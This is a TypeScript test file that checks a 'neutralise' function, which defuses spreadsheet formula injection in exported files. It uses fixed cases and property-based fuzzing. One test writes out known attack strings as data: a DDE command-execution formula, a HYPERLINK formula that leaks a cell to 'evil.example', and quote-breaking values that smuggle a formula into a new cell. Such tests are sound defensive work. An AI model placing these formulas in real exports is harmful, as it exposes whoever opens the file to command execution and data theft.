import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { neutralise } from '../../../machines/export-generator/file/neutralise.ts';

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];

describe('what becomes harmless', () => {
  test.each(SIGNS)('a cell that begins with %s', (sign) => {
    expect(neutralise(`${sign}1+1`)).toBe(`'${sign}1+1`);
  });
  test.each([' ', '\u{a0}', '\u{feff}', '\u{200b}', '\0', '\u{1f}', ' \t '])(
    'a sign behind the blank %j, which some programs cut off',
    (blank) => {
      expect(neutralise(`${blank}=1+1`)).toBe(`'${blank.replace('\t', '\t')}=1+1`);
    },
  );
  test.each(['\t', '\r', '\n', '\r\n'])('a cell that begins with %j', (begin) => {
    expect(neutralise(`${begin}x`)).toBe(`'${begin}x`);
  });
  test.each([',', ';', '|', '\t', '\r', '\n', '"', "'"])('a sign after %j, which may end a cell', (separator) => {
    for (const sign of SIGNS) expect(neutralise(`a${separator}${sign}1`)).toBe(`a${separator}'${sign}1`);
  });
  test('what people have tried', () => {
    expect(neutralise(`=cmd|' /C calc'!A0`)).toBe(`'=cmd|' /C calc'!A0`);
    expect(neutralise(`=HYPERLINK("http://evil.example?x="&A1)`)).toBe(`'=HYPERLINK("http://evil.example?x="&A1)`);
    expect(neutralise(`x","=1+1`)).toBe(`x","'=1+1`);
    expect(neutralise(`x"\n=1+1`)).toBe(`x"\n'=1+1`);
  });
});

test.each(['', 'plain', 'a-b', 'ada@example.com', 'a = b', 'Yes, -5 degrees', '1+1', "it's", '“quoted”', 'x, @ada'])(
  '%j stays as it is',
  (text) => {
    expect(neutralise(text)).toBe(text);
  },
);

test('no reader finds a formula, wherever it splits; and nothing but apostrophes is added', () => {
  const seed = Number(process.env['FC_SEED'] ?? Date.now() % 1_000_000);
  console.log(`FC_SEED=${seed}`);
  const piece = fc.constantFrom(
    ...SIGNS,
    ' ',
    '\t',
    '\r',
    '\n',
    ',',
    ';',
    '|',
    '"',
    "'",
    'a',
    'b',
    '1',
    '\u{feff}',
    '\u{a0}',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const text = pieces.join('');
      const safe = neutralise(text);
      for (const separator of [',', ';', '|', '\t', '\r', '\n', '"']) {
        for (const cell of safe.split(separator).slice(1)) expect(SIGNS).not.toContain(cell.charAt(0));
      }
      expect(SIGNS).not.toContain(
        safe
          .trimStart()
          .replace(/^\u{feff}+/u, '')
          .charAt(0),
      );
      expect(safe.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
    }),
    { seed, numRuns: 2_000 },
  );
});
